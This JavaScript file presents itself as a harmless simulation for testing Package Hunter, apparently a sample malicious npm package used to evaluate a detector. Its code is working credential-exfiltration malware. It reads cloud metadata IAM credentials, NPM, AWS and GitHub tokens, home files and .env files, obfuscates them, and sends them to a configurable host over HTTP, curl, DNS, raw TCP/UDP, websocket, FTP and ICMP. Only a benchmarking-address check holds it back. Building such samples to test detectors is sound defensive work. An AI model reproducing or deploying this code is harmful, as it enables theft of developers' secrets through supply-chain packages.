// Harmless simulation for testing Package Hunter. Not malware.
const C = __CONFIG__;
const crypto = require("crypto"), cp = require("child_process"), dgram = require("dgram"), dns = require("dns");
const fs = require("fs"), http = require("http"), https = require("https"), net = require("net"), os = require("os");
const path = require("path"), zlib = require("zlib");
const given = "__HERE__";
const here = given.startsWith("__") ? __dirname : given;
const home = os.userInfo().homedir;
if (C.cloak === "manager") process.exit = () => {}; // npm would end before the answers are there
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");

function metadata(then) {
  const ask = (where, next) => http.get("http://169.254.169.254/latest/meta-data/" + where, (answer) => {
    let text = ""; answer.on("data", (d) => { text += d; }); answer.on("end", () => next(text));
  }).on("error", () => {});
  if (C.honest) return ask("placement/region", then);
  ask("iam/security-credentials/", (role) => ask("iam/security-credentials/" + role.trim(), then));
}
function read(then) {
  if (C.secret === "metadata") return metadata((text) => then(Buffer.from(text)));
  const note = fs.readFileSync(path.join(here, "notice.txt"));
  if (C.secret === "environment") {
    const names = C.honest ? ["NODE_ENV", "NO_COLOR"] : ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"];
    return then(Buffer.from(names.map((n) => process.env[n] || n + " is not set").join("\n")));
  }
  if (C.honest) return then(note);
  let file = path.join(home, C.file || "");
  if (C.secret === "dotenv") {
    const all = path.join(home, "projects");
    file = fs.readdirSync(all).map((name) => path.join(all, name, ".env")).find((name) => fs.existsSync(name));
  }
  then(fs.readFileSync(file));
}
function encode(data) {
  const text = C.channel === "query" || C.channel === "header" || C.channel === "dns";
  const seen = (bytes) => (text ? Buffer.from(bytes.toString("base64")) : bytes);
  switch (C.encoding) {
    case "base64": return Buffer.from(data.toString("base64"));
    case "hex": return Buffer.from(data.toString("hex"));
    case "gzip": return Buffer.from(zlib.gzipSync(data).toString("base64"));
    case "reversed": return Buffer.from(data).reverse();
    case "xor": { const key = Buffer.from(C.key); return seen(data.map((b, i) => b ^ key[i % key.length])); }
    case "json-in-json": return Buffer.from(JSON.stringify({ v: JSON.stringify({ data: data.toString() }) }));
    case "aes": {
      const cipher = crypto.createCipheriv("aes-256-ctr", crypto.randomBytes(32), crypto.randomBytes(16));
      return seen(Buffer.concat([cipher.update(data), cipher.final()]));
    }
    default: return data;
  }
}
function cut(bytes) {
  if (C.encoding !== "pieces") return [bytes];
  const found = [];
  for (let i = 0; i < bytes.length; i += 24) found.push(bytes.subarray(i, i + 24));
  return found;
}
function request(bytes, done) {
  const where = { hostname: C.host, path: "/u", method: C.channel === "post" ? "POST" : "GET", headers: {} };
  if (C.channel === "query") where.path += "?d=" + encodeURIComponent(bytes.toString("latin1"));
  if (C.channel === "header") where.headers["x-trace"] = encodeURIComponent(bytes.toString("latin1"));
  if (C.cloak === "curl") {
    const words = ["-s", "-m", "8", "https://" + C.host + where.path];
    for (const [name, value] of Object.entries(where.headers)) words.push("-H", name + ": " + value);
    if (C.channel === "post") words.push("--data-binary", "@-");
    cp.spawnSync("curl", words, { input: C.channel === "post" ? bytes : "" });
    return done();
  }
  const sent = https.request(where, (answer) => { answer.resume(); answer.on("end", done); });
  sent.on("error", done);
  sent.end(C.channel === "post" ? bytes : undefined);
}
function names(bytes, done) {
  const text = /^[A-Za-z0-9+/=]*$/.test(bytes.toString("latin1")) && C.encoding === "base64"
    ? bytes.toString().replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "") : bytes.toString("hex");
  const labels = text.match(/.{1,60}/g) || [];
  const next = () => (labels.length ? dns.lookup(labels.shift() + "." + C.host, next) : done());
  next();
}
function stream(bytes, done) {
  const socket = net.connect(4444, C.host, () => socket.end(bytes));
  socket.on("error", () => {}); socket.on("close", done); socket.resume(); socket.setTimeout(4000, () => socket.destroy());
}
function datagram(bytes, done) {
  const socket = dgram.createSocket("udp4");
  socket.send(bytes, 9999, C.host, () => { socket.close(); done(); });
}
function websocket(bytes, done) {
  const sent = https.request({ hostname: C.host, path: "/ws", headers: {
    connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13",
    "sec-websocket-key": crypto.randomBytes(16).toString("base64") } });
  sent.on("upgrade", (answer, socket) => {
    const mask = crypto.randomBytes(4), size = Buffer.from([0x82, 0xfe, bytes.length >> 8, bytes.length & 255]);
    socket.end(Buffer.concat([size, mask, bytes.map((b, i) => b ^ mask[i % 4])])); done();
  });
  sent.on("response", (answer) => { answer.resume(); done(); }); sent.on("error", done); sent.end();
}
function tool(bytes, done) {
  if (C.channel === "ftp") cp.spawnSync("curl", ["-s", "-m", "8", "-T", "-", "ftp://" + C.host + "/u"], { input: bytes });
  else for (let i = 0; i < bytes.length; i += 16) {
    cp.spawnSync("ping", ["-c", "1", "-W", "1", "-p", bytes.subarray(i, i + 16).toString("hex"), C.host], { timeout: 4000 });
  }
  done();
}
const ways = { dns: names, tcp: stream, udp: datagram, websocket, ftp: tool, icmp: tool };
dns.lookup(C.host, (error, address) => {
  if (error || !sealed(address)) return;
  read((data) => {
    const pieces = cut(encode(data));
    const next = () => { if (pieces.length) (ways[C.channel] || request)(pieces.shift(), next); };
    next();
  });
});
